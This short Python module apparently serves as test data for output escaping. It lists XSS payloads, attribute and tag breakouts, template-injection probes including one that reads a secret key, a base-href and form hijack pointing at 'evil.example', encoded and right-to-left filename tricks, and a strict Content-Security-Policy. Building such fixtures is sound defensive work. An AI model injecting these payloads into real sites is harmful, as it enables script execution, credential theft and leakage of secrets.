"""Texts that try to become markup, script or template, and the policy that would stop them if they did."""

HOSTILE = [
    *("<script>alert(1)</script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>"),
    *("<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href='javascript:alert(1)'>x</a>"),
    *('"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onfocus="alert(1)" autofocus="'),
    *("' onfocus='alert(1)' autofocus='", '" style="background:red', "`onmouseover=alert(1)`"),
    *("</strong></li></ul><h1>gone</h1>", "</p></section></main>", "</title><title>x", "<!--", "-->"),
    *("<!-- x --><b>", "<![CDATA[<b>]]>", "<?php echo 1 ?>", "<style>*{display:none}</style>"),
    *("<base href=//evil.example>", "<meta http-equiv=refresh content=0>"),
    *("<form action=//evil.example><input name=csrf>", "{{ 7 * 7 }}{% raw %}", "{{ config.SECRET_KEY }}"),
    *("&lt;b&gt;&amp;amp;&#60;b&#62;", "&quot; onload=&quot;alert(1)", "\\x3cscript\\x3e\\u003cb\\u003e"),
    *("＜script＞‮gnp.exe",),
]

# Several in one: the shape of a page changes if any of them becomes markup.
TOGETHER = [" ".join(HOSTILE[start::3]) for start in range(3)]
SHORT = [  # ways out of an element, an attribute and a template, in as many characters as a name may have
    "</title></textarea><script>alert(1)</script> <!-- {{ 7 * 7 }}{% raw %} &lt;b&gt;&amp;amp;",
    "\"><img src=x onerror=alert(1)> ' onfocus='alert(1)' autofocus=' `onmouseover=alert(1)` \\x3cb",
    '\'><svg/onload=alert(1)> " onfocus="alert(1)" autofocus=" </strong></li></ul> ＜script＞\u202egnp.exe',
]
POLICY = (
    "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self'; connect-src 'self';"
    " manifest-src 'self'; worker-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'"
)
